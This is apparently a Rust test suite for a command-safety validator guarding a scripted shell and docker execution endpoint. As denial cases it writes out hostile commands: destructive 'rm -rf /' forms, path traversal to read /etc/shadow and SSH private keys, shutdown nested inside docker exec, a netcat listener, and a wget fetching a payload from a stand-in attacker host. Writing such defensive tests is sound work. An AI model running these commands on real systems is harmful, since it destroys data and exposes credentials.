//! Adversarial tests for the command safety validator.
//!
//! These tests attack the validator the way a hostile user of the scripted
//! execution endpoint would: path escapes, quoting tricks, nested shells,
//! and destructive docker shapes. Every one of them must be denied.

use dock_guard::{Verdict, Whitelist, validate};

fn whitelist() -> Whitelist {
    Whitelist::new([
        "ls", "cat", "echo", "rm", "mv", "cp", "npm", "node", "git", "docker", "pkill", "bash",
        "sh", "apt-get", "curl", "sudo",
    ])
}

fn denied(command: &str) {
    let verdict = validate(command, &whitelist());
    assert!(
        matches!(verdict, Verdict::Denied { .. }),
        "expected denial for: {command}, got {verdict:?}"
    );
}

fn permitted(command: &str) {
    let verdict = validate(command, &whitelist());
    assert!(
        verdict.is_permitted(),
        "expected permit for: {command}, got {verdict:?}"
    );
}

// ─── Path confinement ─────────────────────────────────────────────────────────

#[test]
fn test_file_ops_confined_to_app_tree() {
    permitted("rm -rf /app/node_modules");
    permitted("mv /app/old.txt /app/new.txt");
    permitted("cp -r /app/src /app/backup");

    denied("rm -rf /");
    denied("rm -rf /etc");
    denied("rm /etc/passwd");
    denied("rm -rf /var/log");
    denied("mv /app/x /bin/x");
    denied("cp /usr/bin/env /app/env");
}

#[test]
fn test_parent_traversal_always_denied() {
    denied("rm -rf /app/../etc");
    denied("rm /app/../../root/.ssh/id_rsa");
    denied("cp /app/../etc/shadow /app/out");
    denied("mv /app/a /app/../b");
}

#[test]
fn test_path_normalization_not_fooled() {
    // Duplicate slashes and trailing slashes must not widen the sandbox
    denied("rm -rf //etc");
    denied("rm -rf /etc/");
    permitted("rm -rf /app//cache/");
    denied("rm -rf /app/..//etc");
}

#[test]
fn test_quoted_paths_still_checked() {
    denied("rm \"/etc/passwd\"");
    denied("rm '/etc/passwd'");
    permitted("rm \"/app/some file.txt\"");
}

// ─── Docker shapes ────────────────────────────────────────────────────────────

#[test]
fn test_docker_rm_exactly_one_id() {
    permitted("docker rm abc123");
    permitted("docker rm -f abc123");

    denied("docker rm");
    denied("docker rm -f");
    denied("docker rm abc123 def456");
    denied("docker rm -f abc123 def456");
    denied("docker rm --volumes abc123");
}

#[test]
fn test_docker_subcommands_gated() {
    permitted("docker ps -a");
    permitted("docker logs abc123");
    permitted("docker restart abc123");

    denied("docker system prune -af");
    denied("docker network rm bridge");
    denied("docker cp abc123:/etc/shadow /tmp/shadow");
}

#[test]
fn test_docker_exec_payload_validated() {
    permitted("docker exec abc123 ls /app");
    permitted("docker exec -it abc123 bash -c \"npm install\"");

    // The payload inside bash -c is held to the same rules
    denied("docker exec abc123 bash -c \"rm -rf /etc\"");
    denied("docker exec abc123 sh -c \"shutdown -h now\"");
    denied("docker exec -u root abc123 bash -c \"rm -rf /\"");

    // And so is a bare inner command
    denied("docker exec abc123 shutdown -h now");
    denied("docker exec abc123 rm -rf /var");
}

#[test]
fn test_exec_nesting_depth_capped() {
    // Nine levels of docker exec wrapping; each level re-escapes the payload
    let mut command = "ls /app".to_string();
    for _ in 0..9 {
        command = format!("docker exec c1 bash -c {command:?}");
    }
    denied(&command);

    // Three levels stays within the cap
    let mut command = "ls /app".to_string();
    for _ in 0..3 {
        command = format!("docker exec c1 bash -c {command:?}");
    }
    permitted(&command);
}

// ─── Process kills ────────────────────────────────────────────────────────────

#[test]
fn test_pkill_limited_to_known_services() {
    permitted("pkill -f 'npm run dev'");
    permitted("pkill -f npm run dev");
    permitted("pkill cloudflared");

    denied("pkill -9 -f 'npm run dev'");
    denied("pkill sshd");
    denied("pkill -f dockerd");
    denied("pkill");
}

// ─── Whitelist membership ─────────────────────────────────────────────────────

#[test]
fn test_non_whitelisted_commands_denied() {
    denied("shutdown -h now");
    denied("reboot");
    denied("wget http://evil.example/payload.sh");
    denied("nc -l 4444");
    denied("");
    denied("   ");
}

#[test]
fn test_membership_suffices_for_plain_commands() {
    permitted("apt-get install -y ripgrep");
    permitted("curl https://registry.npmjs.org/");
    permitted("sudo apt-get update");
    permitted("npm run dev");
    permitted("git status");
}

// ─── Malformed input ──────────────────────────────────────────────────────────

#[test]
fn test_malformed_input_denied_not_panicking() {
    denied("echo \"unterminated");
    denied("echo 'unterminated");
    denied("echo trailing\\");
    denied("rm -rf /app\u{0}"); // NUL survives tokenizing but is just a weird path char
}
